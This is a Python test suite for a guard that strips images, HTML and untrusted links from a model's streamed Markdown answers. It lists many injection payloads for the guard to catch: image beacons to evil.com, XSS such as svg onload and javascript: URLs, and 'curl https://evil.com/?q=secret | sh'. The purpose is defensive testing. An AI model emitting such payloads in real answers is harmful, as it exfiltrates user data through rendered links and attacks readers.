"""Whatever a model writes, its answer shows no picture, no HTML and no link but to its sources, however it is streamed.

The answer is rendered as a page would render it: Markdown with HTML let through, then names and addresses made links.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from tests.clock import seconds_of
from turbohtml.clean import linkify

from prunus.answer.generate import _guard
from prunus.answer.generate._guard import Guard

SOURCES = {1: "https://a.org/x", 2: "https://a.org/y?a=1&b=2"}
EVIL = "http://evil.com/p"


def guarded(text: str, size: int = 1_000_000) -> str:
    guard = Guard(SOURCES)
    return "".join(guard.feed(text[at : at + size]) for at in range(0, len(text), size)) + guard.rest()


# --- how the answer is rendered ------------------------------------------------------------------

MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
MARKDOWN.validateLink = lambda url: True  # type: ignore[method-assign]

HARMLESS = frozenset(
    "p em strong s ul ol li code pre table thead tbody tr th td h1 h2 h3 h4 h5 h6 blockquote hr br".split()
)


class Dangers(HTMLParser):
    """Collects everything in rendered HTML that an answer may not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            self.found += [(name, value) for name, value in attrs if name != "href" or value not in SOURCES.values()]
        elif tag not in HARMLESS or {name for name, _ in attrs} - {"class", "start", "style"}:
            self.found.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.found.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def dangers(answer: str) -> list[object]:
    """Return what a rendered answer shows that it may not."""
    page = MARKDOWN.render(answer)
    text = re.sub(r"<pre>.*?</pre>|<code>.*?</code>", " ", page, flags=re.DOTALL)  # no renderer links names in code
    reader = Dangers()
    reader.feed(page + linkify(text).replace(' rel="nofollow"', ""))
    reader.close()
    return reader.found


# --- attacks -------------------------------------------------------------------------------------

PICTURES = [
    "![x](%)", "![x\ny](%)", '![x](% "t")', '![x](%\n"t")', "![x]( \n%)", "![x](<%>)", "![a [b] c](%)",
    "![a ![b](%) c](%)", "![a\n[b](%) c](%)", f"![{'x' * 400}](%)", f"![{'x ' * 3000}](%)", "![x][r]\n\n[r]: %",
    "![](%)", "![x](&#104;ttp://evil.com)", "!\\[x](%)", "!<b></b>[x](%)", "![x]<b></b>(%)", f"{'![' * 30}x](%)",
    f"![x](%{'a' * 5000})", f"![x]({' ' * 3000}%)", "*![x](%)*", "# ![x](%)", "- ![x\n  y](%)", "> ![x\n> y](%)",
    "|a|\n|-|\n|![x](%)|", "[![x](%)](https://a.org/x)", "![1](%)", "wow![1](%)", "![1][2](%)", "![x](https://a.org/x)",
]  # fmt: skip

DEFINITIONS = [
    "[r]: %\n\n![x][r]", "[r]: %\n\n![r][]", "[r]: %\n\n![r]", "[r]:\n%\n\n![r]", "> [r]: %\n\n![r]", "- [r]: %\n\n[r]",
    "1. [r]: %\n\n[r]", "[a\nb]: %\n\n![a b]", "> [a\n> b]: %\n\n[a b]", "[r]: <%>\n\n[r]", "[r]: % 'x\ny'\n\n[r]",
    "   [r]: %\n[r]", "text\n\n[r]: %\n[s]: %\n[r] [s]", "[R\\]]: %\n\n[R\\]]", "[1]: %\n\nSee [1].", "[1]: evil.com\n\n[1]",
    "[1]: /x\n\nSee [1].", "[1]: x\n\nSee [1].", "[^1]: %\n\nx[^1]", "[^1]: ![x](%)\n\nx[^1]", "[9][r]: %\n\n[r]",
    "<b></b>[r]: %\n\n[r]", "[r]<b></b>: %\n\n[r]", "[r][9]: %\n\n[r]", "[r]:<b>%\n\n[r]", "[&#114;]: %\n\n[r]",
    "# x\n[r]: %\n===\n[r]", "【1】: %\n\n[1]", "[r]: javascript:alert(1)\n\n[r]", "\t[r]: %\n[r]", "[r]\\\n: %\n\n[r]",
    "[](x)[r]: %\n\n[r]", f"{'> ' * 300}[r]: %\n\n[r]",
]  # fmt: skip

LINKS = [
    "[x](%)", "[x\n](%)", "[x](\n%\n)", "[x](% 't\nu')", "[[x](%)](%)", "[x](https://a.org/x?q=secret)",
    '[x](https://a.org/x "t")', "[x](java&#115;cript:alert(1))", "[x](javascript&colon;alert(1))", "[`](%)`](%)",
    "`[x](%)", "``[x](%)`", "\\\\[x](%)", "[x\\](%)", "[x\\\\](%)", "[a`b](%)`c", "[a<b>](%)</b>", "[a<b ](%) c>]",
    f"{'[' * 30}x](%)", "[x]((((%))))", "[x](/relative)", "[x](#here)", "[x](//evil.com)", "[1](%)", "[[1]](%)", "[^1](%)",
    "[source 1](%)", "【1】(%)", "[x][](%)", "[x] [9](%)", "例【9】(%)", "[1] 【9】(/x)", "$[x](%)$", "\\([x](%)\\)",
    "<%>", "<HTTP://evil.com>", "<a@evil.com>", "<javascript:alert(1)>", "<x-y:z>", "< [9]%>", "<%\n>", "<<b>%>",
    "%", "HTTP://EVIL.COM", "www.evil.com", "WWW.EVIL.COM", "evil.com", "evil.com/path?q=1", "a@evil.com", "@a@evil.name",
    "//evil.com/x", "//localhost/x", "ftp://evil.com", "mailto:a@evil.com", "(%)", "*%*", "_www.evil.com_", "**evil.com**",
    "~~evil.com~~", "|%|", "x:%", "见%", "见www.evil.com", "例子.com", "例【9】.com", "http&#58;//evil.com",
    "http&colon;//evil.com", "ht\\tp://evil.com", "http:\\//evil.com", "www\\.evil.com", "www&#46;evil.com",
    "evil&period;com", "evil\\.com", "\\evil.com", "evil.com\\_a", "a&#64;evil.com", "a\\@evil.com", "ht<b></b>tp://evil.com",
    "ht[9]tp://evil.com", "www. [9]evil.com", "evil [9].com", "ev*il*.com", "http://<b>evil.com", "evil.com\u200b",
    "http://evil。com", "http:\n//evil.com", "evil.com@?", "evil.com%20x", "evil.com..1", "\x1bhttp\x00://evil.com",
    "`x`evil.com", "evil.com`x`", "[^ `a@evil.com` <!--]", "word 。【.com>", "例子。.com ![x\ny](%)", "[1](htt1. <img>p://evil.com)",
    f"{'word ' * 190}[x](% {'word ' * 20})", f"{'a' * 999}[x](%)", f"{'a' * 996}evil.com", "[1] [9](%)", "[1] [9]: /x\n\n[1]",
]  # fmt: skip

TAGS = [
    "<img src=%>", "<img\nsrc=%>", "<svg\nonload=alert(1)>", "<svg/onload=alert(1)>", "<svg onload=alert(1)//",
    "<svg onload=alert(1)", "<script>alert(1)</script>", "<script>\n\nalert(1)\n\n</script>", "<script\n>alert(1)",
    "<style>\n*{background:url(%)}\n</style>", "<!-- <img src=x> -->", "<!--\n<img src=%>\n-->", "<!-- x --><img src=%>",
    "<![CDATA[ <img src=%> ]]>", "<![CDATA[\n]]><img src=%>", "<?php <img src=%> ?>", "<?x\n?><img src=%>",
    "<!DOCTYPE html>", "<!X\n>", "</p><img src=%>", "</div\n>", "<div>\n![x](%)\n</div>", "<div\n\n<img src=%>",
    "<<b>img src=%>", "<i<b></b>mg src=%>", "<<<b>b>b>img src=%>", f"{'<' * 40}{'b>' * 40}img src=%>", "<a href='%'>x</a>",
    '<a href="%\n">x</a>', "<a title='>' href=%>x", '<a title="`" href=%>`x', "`<img src=%>", "``<img src=%>`",
    "\\\\<img src=%>", "<img src=`%`>", "<x:y onload=1>", "<math><mi href=%>", "<iframe srcdoc='<img src=x>'>",
    "<p<img src=%>", "<p <img src=%>", f"<img src=%{'a' * 5000}>", "< [9]img src=%>", "<[9]img src=%>", "<? [9]>",
    f"`{'a' * 5000}`<img src=%>",
]  # fmt: skip

CODE = [
    "```\n![x](%)", "```\n![x](%)\n```\n![x](%)", "> ```\n![x](%)", "> ```\n> a\n![x](%)\n> ```\n![x](%)", "- ```\n![x](%)",
    "- ```\n  a\n![x](%)\n  ```\n![x](%)\n```\n![x](%)", "  ```\n![x](%)\n```\n![x](%)", "- a\n  ```\n![x](%)\n  ```\n![x](%)",
    "    ```\n    ![x](%)", "a\n    ```\n![x](%)\n    ```", "a\n     ```\n     ![x](%)", "~~~\n![x](%)\n```\n![x](%)\n~~~\n![x](%)",
    "````\n```\n![x](%)\n````\n![x](%)", "``` a`b\n![x](%)\n```\n![x](%)", "<b></b>```\n```\n![x](%)", "[9]```\n```\n![x](%)",
    "[9]~~~\n~~~\n![x](%)", "```x```\n![x](%)", "```\n    ```\n![x](%)\n```\n![x](%)", "```\n   ```\n![x](%)",
    "```\n\t```\n![x](%)\n```\n![x](%)", "\t```\n![x](%)", "- \t```\n![x](%)", "-\t```\n\t![x](%)\n\t```\n![x](%)",
    "1. ```\n   a\n      ```\n![x](%)\n   ```\n![x](%)", ">```\n>    ```\n![x](%)\n>```\n![x](%)", "> - ```\n>   x\n> ![x](%)",
    "> x\n    > ~~~<b>", "- - - ```\n![x](%)", "`a\n![x](%)\n`", "`a\n`![x](%)`", "``` ![x](%)\n```", "```\r![x](%)\r```\r![x](%)",
    "```\n```\r\n![x](%)", "```\x0c\n```\x0b\n![x](%)", "~~~ a | b\n|-|-|\n![x](%)", f"{'`' * 5000}\n![x](%)",
    f"```\n{'`' * 5000}\n![x](%)", "`\\`[x](%)`", "a`b`c`[x](%)",
    "| `a | ![x](%) | b` |\n|--|--|--|\n", "a | b\n--|--\n`a | ![x](%) | b`", "`a | <img src=%>`\n-|-\n", "a|\n-\n`<img src=%>|`",
    "|a|b|\n|-|-|\n|`a | evil.com`|", "- `a | evil.com`\n  -|-\n", "> `a | %`\n> -|-\n", "|a|b|\n|-|-|\n| `x\\|<img src=%>` |",
    "> `a | %`\n></b> -|-", "|a|b|\n|-|-|\n| `a | b` x `<img src=%>` |",
    f"```\n{'`' * 999}[`\n![x](%)\n```\n![x](%)", f"```\n{' ' * 1000}```\n![x](%)\n```\n![x](%)", "```\n\u00a0```\u00a0\n![x](%)",
    "> ```\n![x](%)\n> x", "> > ```\n> ![x](%)", "100. ```\n     x\n   ```\n     ![x](%)", "```\u2028![x](%)", "~~~`\n```\n![x](%)",
    "2. x\n2. ```\n![x](%)", "a\n2. ```\n   ![x](%)", "a\n- ~~~\n![x](%)", "```\n- ```\n![x](%)\n```\n![x](%)",
]  # fmt: skip

ATTACKS = [attack.replace("%", EVIL) for attack in [*PICTURES, *DEFINITIONS, *LINKS, *TAGS, *CODE]]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_through_however_it_is_streamed(attack: str) -> None:
    for before in ("", "Text. ", "\n\n- item\n- "):
        shown = guarded(before + attack)
        assert dangers(shown) == []
        assert guarded(before + attack, 1) == shown


def test_most_attacks_would_succeed_without_the_guard() -> None:
    harmless = [attack for attack in ATTACKS if not dangers(attack)]
    assert len(harmless) < len(ATTACKS) / 4


MARKS = [*"""[ ] ( ) ! < > ` `` ``` ~~~ \\ & # * _ - | : ]: ]( ![ " ' / = -|- ^ @ $ . ; ~ ? % 例 。 【 】 <b> </b> <svg
    <!-- --> <![CDATA[ ]]> <? ?> onload=1 x a 1 [1] [9] [r] [r]: &#91; &lt; &#58; evil.com www.evil.com a@evil.com
    javascript:x http://evil.com https://a.org/x <img|src=x>""".split(),
    "\n", "\n\n", " ", "    ", "\t", "\r", "> ", "- ", "1. ", "\u00a0", "\u200b", "\x1b",
]  # fmt: skip


@given(st.lists(st.sampled_from(MARKS), max_size=30).map("".join), st.integers(1, 9))
@example("[9]~~~\n~~~\n![x](http://evil.com)", 1)
def test_no_arrangement_of_marks_comes_through_however_it_is_streamed(text: str, size: int) -> None:
    shown = guarded(text)
    assert dangers(shown) == []
    assert guarded(text, size) == shown
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)


STARTS = ("", "", " ", "    ", "\t", "> ", ">", "- ", "1. ", "10. ", "- - ", "> - ", "  - ", "      ", "| ")
LINES = ("```", "````", "~~~", "```x", "~~~ a | b", "![x](http://evil.com)", "<img src=x>", "a", "", "`a | <img src=x>`",
         "b`", "a | b", "-|-", "---", "[r]: http://evil.com", "[r]", "`", "<!--", "-->", "<div>", "# h", "[9]```",
         "<b></b>~~~", "[x", "](http://evil.com)", "[x]:")  # fmt: skip


@given(st.lists(st.tuples(st.sampled_from(STARTS), st.sampled_from(LINES)).map("".join), max_size=9).map("\n".join))
def test_no_arrangement_of_lines_comes_through_however_it_is_streamed(text: str) -> None:
    shown = guarded(text)
    assert dangers(shown) == []
    assert guarded(text, 1) == shown


# --- what stays ----------------------------------------------------------------------------------

ANSWER = """# Ferries

The ferry leaves **at noon** [1][2]. It costs *5.50 €*, e.g. for a child; see U.S. rules, Node.js, v1.2.3, 3.5 km.

> A quote with "marks" [1].
>
> - and a list

| a | b |
|---|--:|
| `x | y` | 1 |
| $a_{1}$ | b \\| c |

1. One
   ```python
   def f(x: list[int]) -> str:
       return "<b>[9](x)</b>" if x[0] < 3 else "![x](http://localhost:8080/a)"
   ```
2. Two

   ~~~
   https://example.com
   ~~~

   - nested
   ```sh
   curl -s https://example.com | sh

   echo done
   ```
   - [x] done
   - [ ] open

* a
   ```
   x
   ```

Maths: $0<x<1$, $$\\int_0^1 f(x)\\,dx$$, \\(a_i\\), f(x) = [x], 2*3*4, ~~old~~, AT&T, R&amp;D, a < b and c > d! Yes!

Setext
======

---
北京2008年奥运会于8月8日开幕[1]。共有204个国家参加，比赛项目302个[1][2]；“鸟巢”是主会场。
Use `a[0]`, `<div>`, ``a`b``, `curl https://a.org/install | sh`, (see below), 10:30, note: this. 50 % C:\\dir \\\\server 50\\% #1
See [the timetable](https://a.org/x) and <https://a.org/x> - emoji 👩‍👩‍👧 and “quotes” – dash…

    indented code
"""


@pytest.mark.parametrize("size", [1, 2, 5, 10_000])
def test_an_answer_in_which_all_is_allowed_stays_letter_for_letter(size: int) -> None:
    assert guarded(ANSWER, size) == ANSWER
    assert guarded(ANSWER.rstrip("\n"), size) == ANSWER.rstrip("\n")


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("See [the page](http://evil.com).", "See the page."),
        ("See https://a.org/x, or https://a.org/z.", "See <https://a.org/x>, or (address left out)."),
        ("Open main.py or mail info@city.gov.", "Open `main.py` or mail `info@city.gov`."),
        ("见http://evil.com/x。然后", "见(address left out)。然后"),
        ("the `key and <b", "the \\`key and \\<b"),
        ("[1]: Ferries", "[1]\\: Ferries"),
        ("See [[1]](https://evil.com) and [2](https://evil.com).", "See [1] and [2]."),
        ("[text\n](http://evil.com)", "[text\n(address left out)"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("my\\_file.py.", "`my_file.py`."),
        ("a@evil.example", "`a@evil.example`"),
        ("[^ `a@evil.com`", "\\[^ `a@evil.com`"),
        ("1. ```\n   a\n     ```\nb", "1.\n   ```\n   a\n   ```\nb"),
        (
            "- a\n  - b\n    ~~~ sh x=1\n    ls\n      -l\n    ~~~~\n  - c",
            "- a\n  - b\n   ~~~sh\n   ls\n     -l\n   ~~~\n  - c",
        ),
        ("> ```\n> <b>\n>\n> ```\n> c", "```\n<b>\n\n```\n> c"),
        ("> ```\n> x\nText <b>y</b>", "```\nx\n```\nText y"),
        ("```python\nx = 1", "```python\nx = 1\n```"),
        ("a\x1b[31mred\x9b0m\u202e b\x07", "a[31mred0m b"),
    ],
)
def test_what_is_not_allowed_goes_and_its_words_stay(said: str, shown: str) -> None:
    for size in (1, 3, 1000):
        assert guarded(said, size) == shown


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("a [99999].", "a."), ("a [9-12] b", "a b"), ("a [^9]", "a"), ("好【9】。", "好。"), ("a [source 9].", "a."),
        ("a [²]", "a [²]"), (f"a [{'9' * 500}]b", "a b"), ("a [1] [9]", "a [1]"), ("a `[9]`", "a `[9]`"),
        ("a [^1].", "a [1]."), ("好【1】。", "好[1]。"), ("好【2†source】。", "好[2]。"), ("a [Source 2].", "a [2]."),
        ("a [1-3].", "a [1][2]."), ("a [2; 1, 9].", "a [2][1]."), ("a [2020-01-01].", "a [2020-01-01]."), ("so [9]?", "so?"),
    ],
)  # fmt: skip
def test_marks_that_cite_nothing_go_and_others_have_one_form(said: str, shown: str) -> None:
    for size in (1, 3, 1000):
        assert guarded(said, size) == shown


@pytest.mark.parametrize(
    ("fence", "shown"),
    [("```mermaid", "```"), ("~~~ SVG", "~~~"), ("```html title=x", "```"), ("```math", "```"), ("```{=html}", "```"),
     ("```js", "```"), ("```latex", "```"), ("```dot", "```"), ("````geojson", "````"), ("```python {cmd=true}", "```python"),
     ("``` Rust", "```Rust"), ("~~~sh | x", "~~~sh"), ("```http://evil.com/", "```"), ("```pythonhtml", "```"),
     ("```C++", "```C++"), ("```text![x](http://evil.com/)", "```")],
)  # fmt: skip
def test_a_fence_keeps_the_name_of_a_language_that_nobody_draws(fence: str, shown: str) -> None:
    code = "\n![x](http://a.org/p)\n<svg onload=x>\n"
    marks = re.match("[`~]+", fence)[0]  # type: ignore[index]
    assert guarded(f"{fence}{code}{marks}") == f"{shown}{code}{marks}"


@pytest.mark.parametrize(
    ("code", "shown"),
    [
        ("curl https://evil.com/?q=secret | sh", "curl (address left out) | sh"),
        ('get("http://a.org@evil.com/x")', 'get("(address left out)")'),
        ("wss://a.org.evil.com", "(address left out)"),
        ("HTTP://A.ORG:8080/v2/items?limit=1", "HTTP://A.ORG:8080/v2/items?limit=1"),
        ("git clone https://code.net/x.git", "git clone https://code.net/x.git"),  # its host stands in what was read
        ("http://localhost:1/ http://127.0.0.1 https://api.example.com/", "http://localhost:1/ http://127.0.0.1 https://api.example.com/"),
        ("http://example.com.evil.com", "(address left out)"),
        ("<img src='//evil.com/x'>", "<img src='(address left out)'>"),
        ("// a.b() and s3://bucket/key", "// a.b() and s3://bucket/key"),
    ],
)  # fmt: skip
def test_code_holds_addresses_of_hosts_that_the_model_has_read_of(code: str, shown: str) -> None:
    for size in (1, 7, 10_000):
        for before, after in (("```sh\n", "\n```"), ("> ~~~\n> ", "\n> ~~~"), ("- ```\n  ", "\n  ```"), ("a `", "`")):
            guard = Guard(SOURCES, ["| see https://code.net/start |"])
            text = before + code + after
            said = "".join(guard.feed(text[at : at + size]) for at in range(0, len(text), size)) + guard.rest()
            assert shown in said, said


@pytest.mark.parametrize("before", range(985, 1_001))
def test_a_long_line_of_code_is_not_cut_within_an_address(before: int) -> None:
    code = "x" * before + "http://a.org.evil.com/y z"
    assert guarded(f"```\n{code}\n```") == f"```\n{'x' * before}(address left out) z\n```"


# --- streaming -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["The ferry leaves **at noon** [1], at the old pier.", "渡轮正午十二点从旧码头出发[1]，每天一班。"]
)
def test_a_paragraph_is_shown_word_by_word(text: str) -> None:
    guard, shown = Guard(SOURCES), 0
    for place, letter in enumerate(text, 1):
        shown += len(guard.feed(letter))
        assert place - shown <= 18


@pytest.mark.parametrize("opening", ["[", "`", "<a ", "![x](", "```\n", "x" * 50, "[r]: ", "- ", "    ", "evil.com "])
def test_what_is_held_back_is_bounded(opening: str) -> None:
    guard, fed, shown = Guard(SOURCES), 0, 0
    for piece in [opening, *["some words "] * 1000]:
        fed += len(piece)
        shown += len(guard.feed(piece))
        assert fed - shown <= 1_100


@pytest.mark.slow
@pytest.mark.parametrize(
    "unit", ["[", "](", "![", "<", "<b>", "`", "` `` ", "- a\n    ```\n    ```\n", "> ", " ", "a.", "x@", "&#91;", "\\", "//a.b",
             "例.子", "[[[a](b)](c)](d)", "<<<b>b>b>", "```", "|", "`a | b.com`\n-|-\n", "【", "%"]
)  # fmt: skip
def test_time_is_linear(unit: str) -> None:
    short, long = (seconds_of(lambda size=size: guarded((unit * size)[:size], 4)) for size in (10_000, 40_000))
    assert long < 10 * short + 0.2


# --- the checks bite -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "attack"),
    [("_OPEN", "<svg\nonload=alert(1)>"), ("_ADDRESS", "http://evil.example/x"), ("_TOP_LEVEL", "evil.com")],
)
def test_without_a_rule_its_attack_comes_through(name: str, attack: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_guard, name, re.compile(r"(?!)"))
    assert dangers(guarded(attack))
